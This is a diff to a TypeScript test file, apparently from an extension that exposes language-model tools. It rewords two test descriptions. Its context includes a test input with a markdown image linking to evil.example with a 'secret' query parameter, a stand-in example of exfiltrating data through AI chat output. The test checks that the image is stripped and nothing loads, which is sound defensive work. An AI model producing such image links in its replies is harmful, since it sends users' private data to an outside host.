@@ -18,7 +18,7 @@ interface ManifestTool {
 }
 
 describe('the tools of the manifest', () => {
-  it('are those of the engine, with its descriptions and schemas', async () => {
+  it("match the engine's, with its descriptions and schemas", async () => {
     const json = async (name: string) =>
       JSON.parse(await readFile(path.join(repositoryRoot, name), 'utf8')) as Record<string, unknown>;
     const { contributes } = (await json('package.json')) as { contributes: { languageModelTools: ManifestTool[] } };
@@ -43,7 +43,7 @@ describe('the tools of the manifest', () => {
   });
 });
 
-describe('text of a model in the chat', () => {
+describe("a model's text in the chat", () => {
   it('loads nothing and runs nothing', () => {
     for (const [markdown, shown] of [
       ['See ![a chart](https://evil.example/?q=secret "t") here.', 'See a chart here.'],
